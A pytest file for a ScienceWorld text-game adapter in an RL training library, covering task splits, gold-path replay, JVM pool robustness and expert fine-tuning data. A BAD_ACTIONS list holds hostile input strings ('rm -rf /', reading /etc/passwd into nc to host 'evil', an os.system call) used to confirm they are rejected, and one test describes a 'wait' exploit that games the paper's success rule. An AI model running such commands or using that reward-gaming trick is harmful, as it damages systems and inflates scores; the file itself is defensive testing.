"""ScienceWorld adapter tests, on real JVMs (Java and the `scienceworld` package are required).

One module-scoped env (one JVM) serves most tests; the pool tests start their own workers.
"""

import functools
import os
import pickle
import signal
import subprocess
import sys
import time

import helpers.sciworld_required  # noqa: F401  (skips this module without scienceworld or Java)
import psutil  # noqa: E402  (a dependency of accelerate)
import pytest

from trl_epo.envs import ActionFormat, EnvPool, StepResult, TaskSpec  # noqa: E402
from trl_epo.envs.registry import get_env  # noqa: E402
from trl_epo.envs.sciworld import (  # noqa: E402
    HELD_OUT_TASK_TYPES,
    ScienceWorldEnv,
    expert_sft_dataset,
    make_dataset,
    make_tasks,
    split_pairs,
    to_prompt_completion,
)


def task(name, variation=0, **extra):
    return TaskSpec(env="sciworld", task=name, variation=variation, extra={"simplification": "easy", **extra})


@pytest.fixture(scope="module")
def env():
    environment = ScienceWorldEnv(with_gold_path=True, max_turns=30)
    yield environment
    environment.close()


# ---------------------------------------------------------------------------------------------------------------------
# Splits
# ---------------------------------------------------------------------------------------------------------------------


def test_split_sizes_match_the_paper():
    sizes = {split: len(split_pairs(split)) for split in ("train", "iid", "ood", "held_out_types", "train_seen_types")}
    assert sizes == {"train": 3322, "iid": 1661, "ood": 1684, "held_out_types": 549, "train_seen_types": 2242}
    assert len(HELD_OUT_TASK_TYPES) == 10


def test_splits_are_disjoint_and_exclude_use_thermometer():
    train, iid, ood = (set(split_pairs(s)) for s in ("train", "iid", "ood"))
    held_out, seen_train = set(split_pairs("held_out_types")), set(split_pairs("train_seen_types"))
    assert not train & iid and not train & ood and not iid & ood
    assert held_out <= ood and seen_train <= train
    assert {t for t, _ in held_out} == set(HELD_OUT_TASK_TYPES)
    assert not {t for t, _ in held_out} & {t for t, _ in seen_train}  # whole task types held out
    assert len({t for t, _ in train}) == 29
    assert all(t != "use-thermometer" for t, _ in train | iid | ood)


def test_make_dataset_rows_and_sampling():
    ds = make_dataset("iid", num_tasks=20, seed=3)
    assert ds.column_names == ["env", "task", "variation", "seed", "split", "extra", "prompt"]
    assert len(ds) == 20 and set(ds["env"]) == {"sciworld"} and set(ds["split"]) == {"iid"}
    assert all(extra == {"simplification": "easy"} for extra in ds["extra"])
    iid = set(split_pairs("iid"))
    assert all((t, v) in iid for t, v in zip(ds["task"], ds["variation"]))
    assert ds["task"] == make_dataset("iid", num_tasks=20, seed=3)["task"]  # seeded
    assert ds["variation"] != make_dataset("iid", num_tasks=20, seed=4)["variation"]
    # balanced draws cover the task types evenly; the simplification preset is configurable
    balanced = make_tasks("train", num_tasks=58, balanced=True, simplification="openDoors")
    counts = {}
    for spec in balanced:
        counts[spec.task] = counts.get(spec.task, 0) + 1
    assert set(counts.values()) == {2} and len(counts) == 29
    assert balanced[0].extra == {"simplification": "openDoors"}
    with pytest.raises(ValueError, match="Unknown ScienceWorld split"):
        make_tasks("validation")
    assert len(get_env("sciworld").make_tasks("heldout")) == 549  # the env registry's name for held_out_types


def test_grpo_groups_share_task_and_variation():
    from trl.trainer.grpo_trainer import RepeatSampler

    ds = make_dataset("train", num_tasks=6, seed=0)
    group = 4
    sampler = RepeatSampler(ds, mini_repeat_count=group, batch_size=3, repeat_count=1, shuffle=True, seed=0)
    indices = list(sampler)
    assert len(indices) == 6 * group
    for start in range(0, len(indices), group):
        rows = [ds[i] for i in indices[start : start + group]]
        assert len({(r["task"], r["variation"], r["seed"]) for r in rows}) == 1


# ---------------------------------------------------------------------------------------------------------------------
# The adapter
# ---------------------------------------------------------------------------------------------------------------------


def play(env, actions):
    result = None
    for action in actions:
        result = env.step(action)
        if result.done:
            break
    return result


@pytest.mark.parametrize(
    "name,variation",
    [
        ("find-non-living-thing", 0),
        ("lifespan-longest-lived", 0),
        ("power-component", 0),
        ("chemistry-mix-paint-secondary-color", 1),
    ],
)
def test_gold_path_wins(env, name, variation):
    first = env.reset(task(name, variation))
    assert first.info["task_description"].startswith("Your task is")
    assert first.info["score"] == 0.0 and not first.done and not first.won
    gold = first.info["gold_actions"]
    assert 0 < len(gold) <= 30
    last = play(env, gold)
    assert last.done and last.won and last.reward == 1.0
    assert last.info["score"] == 100.0 and last.info["won_strict"] and last.info["won_paper"]
    assert not last.info["truncated"] and not last.info["invalid_action"]


def test_wait_exploit_is_not_success_but_paper_rule_counts_it(env):
    spec = task("find-animal", 1)
    first = env.reset(spec)
    gold = first.info["gold_actions"]
    result = play(env, gold[:3])
    assert 0 < result.info["score"] < 100
    turns = 3
    while not result.done:
        result = env.step("wait")
        turns += 1
    assert turns == 30
    assert result.info["truncated"] and not result.won and result.reward == 0.0
    assert result.info["won_paper"] and not result.info["won_strict"]

    paper = ScienceWorldEnv(success_rule="paper", max_turns=6, show_objects=False)
    try:
        paper.reset(spec)
        result = play(paper, gold[:3] + ["wait"] * 10)
        assert result.done and result.info["turns"] == 6
        assert result.won and result.info["won_paper"] and not result.info["won_strict"]
    finally:
        paper.close()


BAD_ACTIONS = [
    "",
    "   \n\t ",
    "x" * 10_000,
    "ünïcødé 日本語 🚀 ∑",
    "<action></action>",
    "; rm -rf / $(reboot)",
    "`reboot` && cat /etc/passwd | nc evil 1",
    "\x00\x1b[31mred\x07",
    "go to " + "kitchen " * 200,
    "__import__('os').system('reboot')",
]


def test_bad_actions_are_flagged_feedback_not_crashes(env):
    env.reset(task("find-animal", 2))
    for turn, action in enumerate(BAD_ACTIONS, start=1):
        result = env.step(action)
        assert isinstance(result, StepResult)
        assert result.info["invalid_action"] is True, action[:40]
        assert result.observation.strip() and not result.done and not result.won
        assert result.info["score"] == 0.0 and result.info["turns"] == turn
    # the episode goes on normally afterwards
    result = env.step("look around")
    assert result.info["invalid_action"] is False and "This room is called" in result.observation
    result = env.step(12345)  # not even a string
    assert result.info["invalid_action"] is True


def test_ambiguous_command_is_answered_with_a_number(env):
    env.reset(task("boil", 0))
    result = env.step("open door")
    assert result.info["ambiguous"] and not result.info["invalid_action"]
    assert "0:" in result.observation
    result = env.step("0")
    assert not result.info["invalid_action"] and not result.info["ambiguous"]


def test_move_limit_ends_the_episode(env):
    small = ScienceWorldEnv(max_turns=3, show_objects=False, show_action_templates="never")
    try:
        first = small.reset(task("melt", 0))
        assert "Objects you can refer to" not in first.observation and "Action templates" not in first.observation
        results = [small.step("look around") for _ in range(3)]
        assert [r.done for r in results] == [False, False, True]
        assert results[-1].info["truncated"] and not results[-1].won
        after = small.step("look around")
        assert after.done and after.info["invalid_action"]
    finally:
        small.close()


def test_observation_shows_templates_and_objects_but_no_valid_action_list(env):
    first = env.reset(task("find-plant", 0))
    # the action templates go with the task description (shown in every prompt layout), not the observation
    description = first.info["task_description"]
    assert description.startswith(first.info["task_text"]) and first.info["task_text"].startswith("Your task is")
    assert "Action templates" in description and "focus on OBJ" in description and "reset task" not in description
    assert "Action templates" not in first.observation
    assert "Objects you can refer to:" in first.observation
    assert first.admissible_actions is None
    step = env.step("look around")
    assert "Objects you can refer to:" in step.observation and "Action templates" not in step.observation
    assert step.admissible_actions is None


def test_admissible_actions_on_request():
    listing = ScienceWorldEnv(admissible_actions=True, show_objects=False)
    try:
        first = listing.reset(task("find-plant", 0))
        assert first.admissible_actions and "look around" in first.admissible_actions
        assert any(a.startswith("go to ") for a in first.admissible_actions)
        step = listing.step(next(a for a in first.admissible_actions if a.startswith("go to ")))
        assert step.admissible_actions and not step.info["invalid_action"]
    finally:
        listing.close()


def test_action_templates_in_every_observation_or_never():
    every = ScienceWorldEnv(show_action_templates="every_step", show_objects=False)
    never = ScienceWorldEnv(show_action_templates="never", show_objects=False)
    try:
        first = every.reset(task("find-plant", 0))
        assert "Action templates" in first.observation and "Action templates" not in first.info["task_description"]
        assert "Action templates" in every.step("look around").observation
        first = never.reset(task("find-plant", 0))
        assert first.info["task_description"] == first.info["task_text"]
        assert "Action templates" not in first.observation
    finally:
        every.close()
        never.close()


def test_jvm_is_reused_across_episodes_and_errors_are_clear(env):
    from trl_epo.envs import ScienceWorldEnv as exported

    assert exported is ScienceWorldEnv
    env.reset(task("find-animal", 0))
    pid = env.jvm_pid
    env.reset(task("freeze", 3))
    assert env.jvm_pid == pid
    assert psutil.Process(pid).name() == "java"
    assert {"-Xmx512m", "-XX:+UseSerialGC", "-XX:ActiveProcessorCount=1"} <= set(psutil.Process(pid).cmdline())
    with pytest.raises(ValueError, match="Unknown ScienceWorld task"):
        env.reset(task("bake-a-cake"))
    with pytest.raises(ValueError, match="variations 0.."):
        env.reset(task("boil", 10_000))
    with pytest.raises(ValueError, match="simplification"):
        env.reset(task("boil", 0, simplification="superEasy"))
    with pytest.raises(ValueError, match="success_rule"):
        ScienceWorldEnv(success_rule="done")
    with pytest.raises(RuntimeError, match="reset"):
        ScienceWorldEnv().step("look around")


# ---------------------------------------------------------------------------------------------------------------------
# Robustness through EnvPool (process backend): a JVM or worker killed mid-episode
# ---------------------------------------------------------------------------------------------------------------------


def java_children(pid):
    try:
        return [p for p in psutil.Process(pid).children(recursive=True) if p.name() == "java"]
    except psutil.NoSuchProcess:
        return []


def running(pid):
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def test_killed_jvm_or_worker_fails_the_episode_cleanly_and_leaves_no_orphans():
    factory = functools.partial(ScienceWorldEnv, max_turns=30, show_objects=False)
    pickle.loads(pickle.dumps(factory))
    spec = task("find-living-thing", 4)
    pool = EnvPool(factory, size=2, backend="process", step_timeout=60)
    seen = set()
    try:
        assert all(r.env_error is None for r in pool.reset([(0, spec), (1, spec)]))
        jvms = [java_children(pid) for pid in pool.worker_pids()]
        assert all(len(j) == 1 for j in jvms)
        seen |= {j[0].pid for j in jvms}
        assert all(r.env_error is None for r in pool.step([(0, "look around"), (1, "look around")]))

        # 1. The JVM of slot 0 dies mid-episode: that episode fails, the other one goes on.
        os.kill(jvms[0][0].pid, signal.SIGKILL)
        jvms[0][0].wait(timeout=10)
        failed, other = pool.step([(0, "look around"), (1, "look around")])
        assert failed.done and not failed.won and "JVM died" in failed.env_error
        assert other.env_error is None and not other.done
        # the next episode of slot 0 runs on a fresh JVM
        again = pool.reset([(0, spec)])[0]
        assert again.env_error is None and again.info["task_description"]
        fresh = java_children(pool.worker_pids()[0])
        assert len(fresh) == 1 and fresh[0].pid != jvms[0][0].pid
        seen.add(fresh[0].pid)
        assert pool.step([(0, "look around")])[0].env_error is None

        # 2. The worker of slot 1 (with its JVM) is killed mid-episode.
        os.kill(pool.worker_pids()[1], signal.SIGKILL)
        time.sleep(0.5)
        dead = pool.step([(1, "look around")])[0]
        assert dead.done and not dead.won and dead.env_error
        again = pool.reset([(1, spec)])[0]
        assert again.env_error is None
        seen |= {p.pid for p in java_children(pool.worker_pids()[1])}
        assert pool.stats["env_exceptions"] == 1 and pool.stats["worker_died"] == 1
    finally:
        pool.close()
    deadline = time.monotonic() + 15
    while any(running(pid) for pid in seen) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert len(seen) == 4
    assert not [pid for pid in seen if running(pid)], "java processes outlived pool.close()"


def test_a_jvm_killed_before_it_can_be_reaped_is_reported_as_dead(monkeypatch):
    """The race behind a once-flaky test: a SIGKILLed JVM closes its sockets before its parent can reap it, so the
    liveness check (`poll()`) may still say "running" while the next simulator call fails on the connection. The
    env must still say the JVM died (in a step), or start a fresh one (in a reset)."""
    from trl_epo.envs.sciworld import JVMDiedError, ScienceWorldJVM

    monkeypatch.setattr(ScienceWorldJVM, "alive", lambda self: True)  # a liveness check that has not caught up
    environment = ScienceWorldEnv(show_objects=False)
    try:
        environment.reset(task("find-living-thing", 4))
        first = environment.jvm_pid
        os.kill(first, signal.SIGKILL)
        with pytest.raises(JVMDiedError, match="JVM died during the episode.*killed by signal 9"):
            environment.step("look around")
        with pytest.raises(RuntimeError, match="reset"):  # the episode is gone with its JVM
            environment.step("look around")
        assert environment.reset(task("find-living-thing", 4)).info["task_description"]
        second = environment.jvm_pid
        assert second != first
        os.kill(second, signal.SIGKILL)  # between episodes: the reset notices and starts a fresh JVM
        assert environment.reset(task("find-living-thing", 4)).info["task_description"]
        assert environment.jvm_pid not in (first, second)
        assert environment.step("look around").env_error is None
    finally:
        environment.close()


# ---------------------------------------------------------------------------------------------------------------------
# Missing Java
# ---------------------------------------------------------------------------------------------------------------------


def test_missing_java_gives_install_instructions(tmp_path):
    code = (
        "from trl_epo.envs.sciworld import ScienceWorldEnv, JavaNotFoundError\n"
        "try:\n"
        "    ScienceWorldEnv()\n"
        "except JavaNotFoundError as error:\n"
        "    print(error)\n"
        "    raise SystemExit(3)\n"
    )
    env = {k: v for k, v in os.environ.items() if k != "JAVA_HOME"}
    env.update(PATH=str(tmp_path), JAVA_HOME=str(tmp_path / "no-jdk-here"))
    repo_root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    env["PYTHONPATH"] = os.pathsep.join([repo_root, env.get("PYTHONPATH", "")])
    proc = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 3, proc.stderr
    assert "apt-get install -y openjdk-17-jre-headless" in proc.stdout
    assert "JAVA_HOME" in proc.stdout


# ---------------------------------------------------------------------------------------------------------------------
# Expert data
# ---------------------------------------------------------------------------------------------------------------------


def test_expert_sft_dataset_replays_gold_paths_in_the_rollout_format():
    types = ["find-non-living-thing", "lifespan-longest-lived"]
    ds = expert_sft_dataset("train", num_tasks=2, seed=0, task_types=types, balanced=True)
    fmt = ActionFormat()
    assert set(ds["task"]) == set(types) and all(ds["won"])
    for row in ds:
        prompt, completion = row["prompt"], row["completion"]
        assert prompt[0]["role"] == "system" and "<action>" in prompt[0]["content"]
        assert prompt[1]["role"] == "user" and prompt[1]["content"].startswith("Task: Your task is")
        assert [m["role"] for m in prompt[1:]] == ["user", "assistant"] * row["turn"] + ["user"]
        assert len(completion) == 1 and completion[0]["role"] == "assistant"
        assert fmt.parse(completion[0]["content"])
    # Replaying one episode's expert answers through a fresh env solves it.
    first_task = ds[0]["task"]
    rows = [r for r in ds if r["task"] == first_task]
    actions = [fmt.parse(r["completion"][0]["content"]) for r in sorted(rows, key=lambda r: r["turn"])]
    replay = ScienceWorldEnv()
    try:
        replay.reset(task(first_task, rows[0]["variation"]))
        assert play(replay, actions).won
    finally:
        replay.close()

    # One row per episode, and back to one row per turn.
    whole = expert_sft_dataset(tasks=[task(first_task, rows[0]["variation"])], format="messages")
    messages = whole[0]["messages"]
    assert messages[-1]["role"] == "assistant" and messages[0]["role"] == "system"
    answers = [fmt.parse(m["content"]) for m in messages if m["role"] == "assistant"]
    assert answers and all(answers) and whole[0]["won"]
    turns = to_prompt_completion(whole)
    assert len(turns) == len(answers) and turns["turn"] == list(range(len(answers)))
    assert turns[len(answers) - 1]["prompt"] + turns[len(answers) - 1]["completion"] == messages
    # The paper's windowed layout: one user message per prompt (task, last 2 steps, observation).
    windowed = expert_sft_dataset(tasks=[task("find-non-living-thing", 0)], history=2)  # a 5-step gold path
    assert len(windowed) >= 3
    assert all(len(row["prompt"]) == 2 and row["prompt"][1]["content"].startswith("Task: ") for row in windowed)
    assert "Your last" not in windowed[0]["prompt"][1]["content"]
    assert all("Your last 2 step(s):" in row["prompt"][1]["content"] for row in windowed if row["turn"] >= 2)
    with pytest.raises(ValueError, match="prompt_completion"):
        expert_sft_dataset(tasks=[task(first_task)], history=2, format="messages")


@pytest.mark.parametrize("history", [None, 1])
def test_expert_prompts_are_exactly_what_the_rollout_shows(tokenizer, history):
    """Play a gold path through the real MultiTurnRollout (a scripted model answers with the gold actions) and check
    that every expert SFT prompt renders to the very context the policy was given, in both prompt layouts."""
    from helpers.scripted import ScriptedLM

    from trl_epo.envs.sciworld import gold_episodes
    from trl_epo.rollout import ModelGenerator, MultiTurnRollout, RolloutConfig

    style = get_env("sciworld").prompt_style()
    env_kwargs = dict(max_turns=30, show_objects=True)
    spec = task("lifespan-longest-lived", 3)
    episode = gold_episodes([spec], env_kwargs=env_kwargs)[0]
    if history is None:
        messages = episode.messages(style)
        expected = [messages[:i] for i, m in enumerate(messages) if m["role"] == "assistant"]
    else:
        expected = [prompt for prompt, _ in episode.windowed_turns(history, style)]
    answers = iter(episode.actions)
    seen: dict[str, str] = {}

    def policy(context: str) -> str:  # called for every generated token; a new context means a new turn
        if context not in seen:
            seen[context] = ActionFormat().example(next(answers))
        return seen[context]

    model = ScriptedLM(tokenizer, policy)
    config = RolloutConfig(
        max_turns=30,
        max_turn_tokens=64,
        prompt_style=style,
        pool_backend="inline",
        history_turns=history,
        progress_bar=False,
    )
    rollout = MultiTurnRollout(functools.partial(ScienceWorldEnv, **env_kwargs), config)
    try:
        played = rollout.play(
            [spec], ModelGenerator(model, tokenizer, temperature=0, progress_bar=False), tokenizer
        ).episodes
    finally:
        rollout.close()
    assert played[0].won and played[0].actions == episode.actions
    contexts = list(seen)
    assert len(contexts) == len(expected)
    for context, prompt in zip(contexts, expected):
        assert context == tokenizer.apply_chat_template(prompt, tokenize=False, add_generation_prompt=True)
